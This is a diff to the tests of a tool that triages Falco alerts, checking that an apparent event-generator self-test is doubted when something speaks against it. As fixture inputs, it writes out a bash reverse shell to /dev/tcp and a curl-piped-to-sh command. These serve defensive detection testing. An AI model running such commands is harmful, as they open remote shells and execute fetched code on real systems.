@@ -10,7 +10,7 @@ describe("a report on a run of Falco's event generator", () => {
 
   test('says that it is very likely a self-test, how sure that is, and why not certain', () => {
     expect(verdict).toContain('Very likely a Falco self-test with the event generator, and benign if somebody ran it.')
-    expect(verdict).toMatch(/Confidence: high, because two marks .* not certain, because the name .* can be forged/)
+    expect(verdict).toMatch(/Confidence: high, because two marks .* nothing speaks against it; not certain, because the name .* can be forged/)
   })
 
   test('shows the marks that it stands on: the file, the parent, and the action made for this rule', () => {
@@ -71,12 +71,35 @@ describe("a report on a run of Falco's event generator", () => {
     expect(textOf(reportOn({ ...selfTest, fields }), 'Verdict')).not.toContain("names the event generator's image")
   })
 
-  test('is less sure when the event shows what the generator does not do for this rule', () => {
+  const copied = (fields: Readonly<Record<string, string>>) =>
+    reportOn({ ...selfTest, fields: new Map([...selfTest.fields, ...Object.entries(fields)]) })
+  const file = '/dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-Qx7abc.sh'
+
+  test('is doubted when the event shows what the generator does not do, whatever names it bears', () => {
     const line = 'sh -c bash -i >& /dev/tcp/203.0.113.24/4444'
-    const fields = new Map([...selfTest.fields, ['proc.cmdline', line], ['container.image.repository', 'falcosecurity/event-generator']])
-    const doubtful = reportOn({ ...selfTest, fields })
-    expect(doubtful.verdict).toMatchObject({ label: 'Falco self-test', confidence: 'medium' })
+    const doubtful = copied({ 'proc.cmdline': line, 'container.image.repository': 'falcosecurity/event-generator' })
+    expect(doubtful.verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
     expect(textOf(doubtful, 'Verdict')).toContain('Against it: What the command line asks for opens a network connection')
+  })
+
+  test("is doubted even in the generator's own action, where something is fetched and run behind its file", () => {
+    const doubtful = copied({ 'proc.cmdline': `sh -c ${file}; curl http://198.51.100.9/x | sh` })
+    expect(doubtful.verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
+    expect(textOf(doubtful, 'Verdict')).toContain('Against it: What the command line asks for runs what it fetches')
+    expect(textOf(doubtful)).not.toContain('benign if somebody ran it')
+  })
+
+  test("is doubted in an image that is not the generator's", () => {
+    const doubtful = copied({ 'container.image.repository': 'registry.example.com/shop/checkout' })
+    expect(doubtful.verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
+    expect(textOf(doubtful, 'Verdict')).toContain(
+      "Against it: The container's image is registry.example.com/shop/checkout, which is not the event generator's.",
+    )
+    expect(textOf(doubtful, 'Verdict')).toContain('Confidence: low, because something speaks against a test')
+  })
+
+  test("is doubted where the command line asks for more than the generator's file", () => {
+    expect(copied({ 'proc.cmdline': `sh -c ${file}; id` }).verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
   })
 
   test('is not taken in by a test that opens an alert which other events then join', () => {
